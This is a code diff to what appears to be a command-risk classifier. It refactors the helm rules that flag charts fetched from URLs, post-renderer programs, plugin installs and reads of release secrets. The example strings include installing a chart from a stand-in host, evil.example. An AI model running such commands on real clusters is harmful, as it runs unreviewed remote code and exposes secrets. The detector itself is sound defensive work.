@@ -830,23 +830,12 @@ HELM_INSTALL_GRAMMAR = Grammar(values="fn", long_values=("values", "set", "set-s
 
 
 @emits({"helm.chart-url": ["helm install x https://evil.example/x-1.0.tgz",
-                           "helm upgrade --install x https://x.example/c.tgz"],
-        "helm.post-renderer": ["helm install x ./chart --post-renderer ./render.sh"]})
+                           "helm upgrade --install x https://x.example/c.tgz"]})
 def helm_chart(cmd, o) -> None:
-    """A chart from a URL is fetched and applied unread; --post-renderer runs a program on the manifests."""
+    """A chart from a URL is fetched and applied unread."""
     for chart in o.operands[1:2]:
         if chart.startswith(("http://", "https://")):
             cmd.does("run-fetched", "helm.chart-url", f"installs a chart fetched from {chart}, unread")
-    for program in o.all("post-renderer"):
-        cmd.does("run-code", "helm.post-renderer", f"helm runs {program} on the rendered manifests")
-
-
-@emits({"helm.plugin.install": ["helm plugin install https://github.com/someone/helm-x"]})
-def helm_plugin(cmd, o) -> None:
-    """A plugin's install hook runs, and the plugin runs with every later helm command."""
-    for source in o.operands[:1]:
-        cmd.does("install-foreign", "helm.plugin.install", f"installs a helm plugin from {source}: its hooks run "
-                                                           "unreviewed")
 
 
 HELM = Program(
@@ -864,7 +853,11 @@ HELM = Program(
         **dict.fromkeys(("uninstall", "delete", "del", "un"), verb(rows=(
             Row("helm.uninstall", "remove", "helm uninstall removes a release", examples=("helm uninstall x",)),))),
         **dict.fromkeys(("install", "upgrade"), verb(grammar=HELM_INSTALL_GRAMMAR, hook=helm_chart, rows=(
-            Row("helm.install", "infra", KUBE_CHANGES, examples=("helm install x ./chart",)),))),
+            Row("helm.install", "infra", KUBE_CHANGES, examples=("helm install x ./chart",)),
+            # --post-renderer runs a program on the manifests
+            Row("helm.post-renderer", "run-code", "helm runs {value} on the rendered manifests",
+                When(option=("post-renderer",)),
+                examples=("helm install x ./chart --post-renderer ./render.sh",))))),
         "registry": verb(verbs={"login": LOGIN, "logout": LOGOUT}),
         # a release's values are what it was installed with (passwords, tokens), its manifest holds its Secrets
         "get": verb(verbs=dict.fromkeys(("values", "all", "manifest"), verb(rows=(
@@ -872,7 +865,11 @@ HELM = Program(
                 sets=("secret",), examples=("helm get values prod", "helm get all prod -n x",
                                             "helm get manifest prod")),))),
                     read_only=("notes", "hooks", "metadata")),
-        "plugin": verb(verbs={"install": verb(hook=helm_plugin)}, read_only=("list", "ls"),
+        # a plugin's install hook runs, and the plugin runs with every later helm command
+        "plugin": verb(verbs={"install": verb(rows=(
+            Row("helm.plugin.install", "install-foreign", "{cmd} installs a helm plugin: its hooks run unreviewed",
+                When(operands=True), examples=("helm plugin install https://github.com/someone/helm-x",)),))},
+                       read_only=("list", "ls"),
                        default=Row("helm.plugin", "local-config", "{cmd} changes helm's plugins",
                                    examples=("helm plugin uninstall x",))),
     },
